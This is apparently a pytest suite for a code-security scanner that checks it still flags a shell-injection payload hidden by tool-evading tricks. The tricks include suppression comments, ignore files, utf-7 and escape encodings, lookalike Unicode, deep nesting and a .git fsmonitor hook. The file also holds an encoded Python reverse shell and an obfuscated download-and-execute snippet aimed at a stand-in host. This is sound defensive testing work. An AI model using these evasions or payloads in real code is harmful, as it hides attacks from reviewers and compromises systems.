"""What blinds bandit and semgrep as they are usually called must not blind this engine.

One archive holds every tree that hides something, another every file that breaks a tool: two scans, a test a case.
"""

import zlib

import pytest

from scanners import ScanReport
from scanners.report import Severity, Verdict
from tests.samples import archives
from tests.scanners.conftest import Scan
from tests.scanners.evasions import DETOURS

PAYLOAD = "import os\nos.system('true ' + input())\n"
HIDDEN_IN_FOLDERS = [
    "test", "node_modules", "build", ".venv", ".tox", ".npm", ".github", "__pycache__", ".git", ".hg", ".eggs",
    "site-packages", "vendor", ".semgrep",
]  # fmt: skip
HIDDEN_BY_NAME = [
    "main.PY", "main.pyw", "main.pyi", "main.pyx", "main.txt", "main", "main.dat", "xCVSx.py", "x__pycache__x.py",
    "-rf.py", "--config.py", "a b.py", "\u00e9.py",
]  # fmt: skip
HIDING: dict[str, str | bytes] = {
    **{f"folders/{name}/main.py": PAYLOAD for name in HIDDEN_IN_FOLDERS},
    **{f"names/{name}": PAYLOAD for name in HIDDEN_BY_NAME},
    "silenced/nosec.py": "import os\nos.system('true ' + input())  # nosec\n",
    "silenced/nosemgrep.py": "import os\nos.system('true ' + input())  # nosemgrep\n",
    "silenced/noqa.py": "import os\nos.system('true ' + input())  # noqa\n",
    "shebang/run": "#!/usr/bin/env python3\n" + PAYLOAD,
    "notebook/main.ipynb": '{"cells": [{"cell_type": "code", "source": ["import os\\n", "os.system(input())"]}]}',
    "encoded/utf7.py": b"# coding: utf-7\n" + PAYLOAD.encode("utf-7"),
    "encoded/latin.py": b"# coding: latin-1\n# \xe9\n" + PAYLOAD.encode(),
    "encoded/mark.py": b"\xef\xbb\xbf" + PAYLOAD.encode(),
    "encoded/escape.py": b"# coding: unicode_escape\n# \\u000aimport os\\u000aos.system(input())\n",
    "encoded/return.py": b"# only a comment\rimport os\ros.system(input())\r",
    "encoded/letters.py": "import os\nos.\U0001d4c8\U0001d4ce\U0001d4c8\U0001d4c9\U0001d4ee\U0001d4c2(input())\n",
    "deep/plus.py": "x = " + "+".join(["1"] * 2500) + "\n" + PAYLOAD,
    "deep/branches.py": "x = 1\nif x == 0:\n    pass\n"
    + "".join(f"elif x == {number}:\n    pass\n" for number in range(1, 1500))
    + PAYLOAD,
    # Configuration that would switch a tool off, redirect its output or run a program.
    ".bandit": "[bandit]\nskips = B602,B605\n",
    "folders/.bandit": "[bandit]\noutput = PWNED\ntests = B101\n",
    ".semgrepignore": "*\n",
    "folders/.semgrepignore": "*\n",
    ".gitignore": "*\n",
    ".git/config": "[core]\n\tfsmonitor = touch PWNED\n",
    ".git/info/exclude": "*\n",
    "pyproject.toml": "[tool.bandit]\nskips = ['B605']\n",
}
BREAKING: dict[str, str | bytes] = {
    "unknown_cookie.py": "# coding: no-such-codec\n" + PAYLOAD,
    "rot13_cookie.py": "# coding: rot13\n" + PAYLOAD,
    "parens.py": "x = " + "(" * 9000 + ")" * 9000 + "\n" + PAYLOAD,
    "syntax.py": PAYLOAD + "def broken(:\n",
    "python2.py": "print 'hello'\n" + PAYLOAD,
    "nul_after.py": PAYLOAD.encode() + b"\0",
    "nul_in_comment.py": b"# a\0b\n" + PAYLOAD.encode(),
    "not_utf8.py": b"# \xff\xfe\n" + PAYLOAD.encode(),
    "large.py": "# short\n" * 140_000 + PAYLOAD,
    "broken.js": "function f( {;\n",
}


@pytest.fixture(scope="module")
def hiding(scan: Scan) -> ScanReport:
    return scan(HIDING)


@pytest.fixture(scope="module")
def breaking(scan: Scan) -> ScanReport:
    return scan(BREAKING)


@pytest.fixture(scope="module")
def detours(scan: Scan) -> ScanReport:
    return scan({f"{number}.py": source for number, (_, source) in enumerate(DETOURS.values())})


@pytest.mark.parametrize(
    "path", [path for path, content in HIDING.items() if b"os" in archives.as_files({"x": content})["x"]]
)
def test_hidden_payload_is_found(path: str, hiding: ScanReport) -> None:
    found = [finding for finding in hiding.findings if finding.path == path]
    assert any(finding.technique in ("shell-use", "indirect-execution") for finding in found), hiding.errors


def test_hostile_configuration_changes_nothing(hiding: ScanReport) -> None:
    assert hiding.errors == ()
    assert hiding.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)


def test_payload_is_reported_on_its_own_line(hiding: ScanReport) -> None:
    lines = {(finding.path, finding.line) for finding in hiding.findings if finding.rule_id == "shell-command"}
    assert ("silenced/nosec.py", 2) in lines
    assert ("encoded/return.py", 3) in lines
    assert ("deep/plus.py", 3) in lines


@pytest.mark.parametrize("path", ["encoded/utf7.py", "encoded/escape.py"])
def test_encoding_that_hides_text_is_a_finding(path: str, hiding: ScanReport) -> None:
    assert any(finding.rule_id == "odd-encoding" and finding.path == path for finding in hiding.findings)


def test_ordinary_legacy_encoding_is_no_finding(hiding: ScanReport) -> None:
    assert not any(f.rule_id == "odd-encoding" and f.path == "encoded/latin.py" for f in hiding.findings)


@pytest.mark.parametrize("path", BREAKING)
def test_file_that_breaks_a_tool_is_named_as_an_error(path: str, breaking: ScanReport) -> None:
    assert any(f": {path}: " in f": {error}" for error in breaking.errors), breaking.errors


def test_file_that_breaks_a_tool_leaves_the_scan_incomplete(breaking: ScanReport) -> None:
    assert breaking.verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize("path", ["syntax.py", "nul_after.py", "large.py", "broken.js"])
def test_one_broken_file_is_enough(path: str, scan: Scan) -> None:
    assert scan({path: BREAKING[path]}).verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize("name", DETOURS)
def test_detour_is_found(name: str, detours: ScanReport) -> None:
    rule_id = DETOURS[name][0]
    path = f"{list(DETOURS).index(name)}.py"
    assert rule_id in {finding.rule_id for finding in detours.findings if finding.path == path}


@pytest.mark.parametrize(
    ("path", "content", "rule_id"),
    [
        ("evil.pyc", b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3", "unread-bytecode"),
        ("evil.txt", b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3", "unread-bytecode"),
        ("lib.so", b"\x7fELF" + bytes(60), "unread-native"),
        ("picture.png", b"MZ" + bytes(60), "unread-native"),
        ("lib.7z", b"7z\xbc\xaf\x27\x1c" + bytes(60), "unread-archive"),
        ("lib.zip", archives.pack_zip({"evil.py": PAYLOAD}) + b"more", "unread-archive"),
        ("weights.pkl", b"\x80\x04cposix\n", "unread-pickle"),
    ],
)
def test_content_nobody_can_read_needs_a_person(path: str, content: bytes | str, rule_id: str, scan: Scan) -> None:
    report = scan({"main.py": "x = 1\n", path: content})
    assert [finding.rule_id for finding in report.findings if finding.severity is not Severity.INFO] == [rule_id]
    assert report.verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize("name", ["lib.zip", "picture.jpg", "table.xlsx"])
def test_code_in_a_nested_archive_is_looked_at(name: str, scan: Scan) -> None:
    lead = b"\xff\xd8\xff" + bytes(60) if name == "picture.jpg" else b""
    report = scan({"main.py": "x = 1\n", name: lead + archives.pack_zip({"evil.py": PAYLOAD})})
    assert {f"{name}!/evil.py", name} == {finding.path for finding in report.findings if finding.path}


def test_script_no_engine_reads_is_unread_when_code_names_it(scan: Scan) -> None:
    script = "system('id')\n"
    named = scan({"main.py": "run('tool.rb')\n", "tool.rb": script})
    assert [finding.rule_id for finding in named.findings if finding.path] == ["unread-script"]
    assert named.verdict is Verdict.INCOMPLETE
    unnamed = scan({"main.py": "x = 1\n", "tool.rb": script})
    assert [finding.rule_id for finding in unnamed.findings if finding.path] == ["foreign-script"]


def test_code_inside_decoded_text_is_looked_at(scan: Scan) -> None:
    inner = "import socket, os\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n"
    outer = f"import base64, zlib\nexec(zlib.decompress(bytes.fromhex({zlib.compress(inner.encode()).hex()!r})))\n"
    report = scan({"main.py": outer})
    assert ("reverse-shell-python", 2) in {(finding.rule_id, finding.line) for finding in report.findings}


def test_rules_for_plain_code_match_code_with_detours(scan: Scan) -> None:
    source = (
        "import importlib\nnet = importlib.import_module('urllib' + '.request')\n"
        "run = getattr(__import__('builtins'), 'ex' + 'ec')\nrun(net.urlopen('https://x.example.invalid').read())\n"
    )
    report = scan({"main.py": source})
    assert ("download-execute-python", 4) in {(finding.rule_id, finding.line) for finding in report.findings}


def test_escaped_javascript_identifier_is_spelled_out(scan: Scan) -> None:
    report = scan({"main.js": "const text = atob(data);\n\\u0065val(text);\n"})
    assert ("decode-execute-javascript", 2) in {(finding.rule_id, finding.line) for finding in report.findings}


def test_text_run_as_code_without_end_leaves_the_scan_incomplete(scan: Scan) -> None:
    report = scan({"main.py": "".join(f"exec('x = {number}')\n" for number in range(60))})
    assert report.errors == ("sources: main.py: runs over 50 texts as code",)
    assert report.verdict is Verdict.INCOMPLETE
